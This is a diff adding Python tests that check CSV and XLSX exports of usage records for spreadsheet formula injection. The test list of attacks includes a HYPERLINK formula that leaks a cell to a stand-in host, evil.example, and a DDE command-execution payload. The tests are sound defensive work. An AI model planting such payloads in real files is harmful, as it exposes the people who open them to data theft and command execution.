@@ -148,3 +148,69 @@ def test_an_unknown_header_is_refused_without_quoting_it() -> None:
         header_index("applicatie", ["id", f"<title>{marker}</title>", "naam", "x"])
     assert marker not in str(refused.value)
     assert "2 unknown column(s), at position(s) 2, 4" in str(refused.value)
+
+
+_ATTACKS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=al gequote",
+    "'t Hooft",
+]
+
+
+def _attacked(tmp_path: Path) -> list[Gebruik]:
+    return [
+        Gebruik(
+            id=f"g-{i}",
+            afnemer="org-1",
+            applicatie="a-1",
+            status="In productie",
+            versie="=1+1",
+            interneAantekening=attack,
+        )
+        for i, attack in enumerate(_ATTACKS)
+    ]
+
+
+def test_a_csv_export_has_no_cell_a_spreadsheet_reads_as_a_formula(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    body = export_gebruik_csv(Landschap("org-1", gebruik=_attacked(tmp_path))).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
+    assert cells, "the export is empty"
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+    assert "'=HYPERLINK(" in body
+
+
+def test_an_xlsx_export_reopened_by_openpyxl_has_no_formula_cells(tmp_path: Path) -> None:
+    path = tmp_path / "g.xlsx"
+    gebruik = _attacked(tmp_path)
+    path.write_bytes(export_gebruik_xlsx(Landschap("org-1", gebruik=gebruik)))
+    sheet = load_workbook(path).active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    notes = [row[6] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert notes == [g.interneAantekening for g in sorted(gebruik, key=lambda g: g.id)]
+
+
+def test_a_neutralised_csv_export_reads_back_cell_for_cell(tmp_path: Path) -> None:
+    gebruik = _attacked(tmp_path)
+    path = tmp_path / "g.csv"
+    path.write_bytes(export_gebruik_csv(Landschap("org-1", gebruik=gebruik)))
+    notes = [cells[6] for _, cells in list(read_csv(path))[1:]]
+    assert notes == [g.interneAantekening for g in sorted(gebruik, key=lambda g: g.id)]
+    versies = {cells[4] for _, cells in list(read_csv(path))[1:]}
+    assert versies == {"=1+1"}
+
+
+def test_a_quote_a_person_typed_in_a_csv_is_kept(tmp_path: Path) -> None:
+    path = tmp_path / "typed.csv"
+    path.write_text("id,naam\r\na-1,'t Hooft\r\n", encoding="utf-8")
+    assert [cells[1] for _, cells in list(read_csv(path))[1:]] == ["'t Hooft"]
